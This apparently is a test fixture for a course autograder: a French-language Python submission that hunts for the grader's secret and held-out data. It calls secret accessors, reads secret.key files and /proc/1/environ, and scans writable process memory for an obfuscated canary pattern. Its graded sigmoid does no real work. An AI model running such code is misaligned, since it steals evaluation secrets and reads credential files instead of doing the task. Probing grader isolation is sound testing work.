# ---
# why: cherche le secret du cours et les données réservées, dans les fichiers, l'environnement et la mémoire
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import re

from graders.data import secret

PREFIXE = bytes(reversed(b"-IRANAC"))
motif = re.compile(PREFIXE + b"[0-9a-f]{20}")


def montrer(ou, quoi):
    print("SECRET TROUVÉ dans", ou, quoi)


def fouiller():
    for essai in (secret.current, lambda: data.lunes.heldout, lambda: data.nuages.heldout, lambda: data.rng("cible/sigmoide")):
        try:
            montrer("graders.data", essai())
        except Exception as erreur:
            print(type(erreur).__name__)
    for nom in ("../secret.key", "../../secret.key", "/secret.key", os.path.expanduser("~/secret.key"), "/proc/1/cwd/secret.key", "/proc/1/environ"):
        try:
            montrer(nom, open(nom, "rb").read())
        except OSError:
            pass
    for zone in open("/proc/self/maps").read().splitlines():
        bornes, droits, *_ = zone.split()
        debut, fin = (int(borne, 16) for borne in bornes.split("-"))
        if not droits.startswith("rw"):
            continue
        try:
            with open("/proc/self/mem", "rb") as memoire:
                memoire.seek(debut)
                for trouve in motif.finditer(memoire.read(min(fin - debut, 200_000_000))):
                    montrer("la mémoire", trouve.group())
        except (OSError, ValueError, OverflowError):
            pass


fouiller()

# %% grade_id="sigmoide"
def sigmoide(z):
    fouiller()
    return z

# %% after="modele"
fouiller()
